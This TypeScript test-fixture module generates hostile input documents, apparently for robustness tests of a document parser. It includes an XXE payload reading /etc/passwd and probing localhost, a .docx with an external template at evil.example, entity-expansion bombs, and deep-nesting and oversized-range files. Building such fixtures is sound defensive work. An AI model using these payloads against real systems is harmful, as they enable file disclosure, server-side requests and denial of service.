import { strToU8, unzipSync, zipSync } from 'fflate';
import { noise } from '../noise.ts';
import { OFFICE, relationships } from '../own-books/office-zip.ts';
import { writtenXlsx } from '../own-books/written-xlsx.ts';
import { ownBookBytes } from '../own-books.ts';
import { oleFile } from '../old-office/ole-file.ts';
import { word97Streams } from '../old-office/word.ts';
import { entities } from './epubs.ts';

/** The document of the lamp keeper with other parts. */
const changedDocx = (parts: Record<string, Uint8Array>): Uint8Array =>
  zipSync({ ...unzipSync(ownBookBytes('lamps-he.docx')), ...parts });

/** As Office locks its files: the real one is a stream of a container. */
const lockedOffice = (): Uint8Array => oleFile({ EncryptionInfo: noise(200), EncryptedPackage: noise(6000) });

const oneCell = (place: string, row: number): string =>
  `<row r="${row}"><c r="${place}" t="inlineStr"><is><t>alone</t></is></c></row>`;

/** Office files, texts and XML that lie, trap or are broken, by file name. */
export const HOSTILE_DOCUMENTS = {
  'truncated.docx': () => ownBookBytes('wells.docx').subarray(0, 8000),
  'docx-named.txt': () => ownBookBytes('wells.docx'),
  'xml-bomb.docx': () => changedDocx({ 'word/document.xml': new Uint8Array(12 * 1024 * 1024).fill(0x20) }),
  'external-template.docx': () =>
    changedDocx({
      'word/settings.xml': strToU8('<w:settings/>'),
      'word/_rels/settings.xml.rels': strToU8(
        relationships([`${OFFICE}/attachedTemplate`, 'http://evil.example/t.dotm', 'External']),
      ),
    }),
  'locked.docx': lockedOffice,
  'locked.xlsx': lockedOffice,
  'locked.doc': () => oleFile(word97Streams({ body: 'Words under a lock.\r' }, 0x0100)),
  'claims-1048576x16384.xlsx': () => writtenXlsx(oneCell('A1', 1), { claim: 'A1:XFD1048576' }),
  'far-cell.xlsx': () => writtenXlsx(oneCell('XFD1048576', 1_048_576)),
  'million-columns.csv': () => strToU8(`a${','.repeat(1_000_000)}b\n1,2\n`),
  'one-quote.csv': () => strToU8(`a,b\n1,"${'x,y\n'.repeat(50_000)}`),
  'deep-nesting.html': () => strToU8(`<!DOCTYPE html>${'<div>'.repeat(50_000)}The words at the bottom.`),
  'deep-nesting.xml': () => strToU8(`<?xml version="1.0"?>${'<a>'.repeat(50_000)}x${'</a>'.repeat(50_000)}`),
  'deep-groups.rtf': () => strToU8(`{\\rtf1 ${'{\\b '.repeat(100_000)}x${'}'.repeat(100_000)}}`),
  'entity-bomb.xml': () => strToU8(`<?xml version="1.0"?>${entities('r')}<r><p>&a12;</p></r>`),
  'entity-bomb.fb2': () =>
    strToU8(
      `<?xml version="1.0"?>${entities('FictionBook')}<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>&a12;</p></section></body></FictionBook>`,
    ),
  'xxe.xml': () =>
    strToU8(
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://127.0.0.1:9/">]><r><p>before &x; &y; after</p></r>',
    ),
  'nul-bytes.txt': () => strToU8('ab\0\u0001\u0002'.repeat(1000)),
  'exe-named.pdf': () => strToU8(`MZ\u0090\0${'\0'.repeat(400)}This program cannot be run in DOS mode.`),
  'plain.zip': () => zipSync({ 'a.txt': strToU8('x') }),
  'garbage.mobi': () => Buffer.concat([Buffer.alloc(60), Buffer.from('BOOKMOBI'), noise(900)]),
};
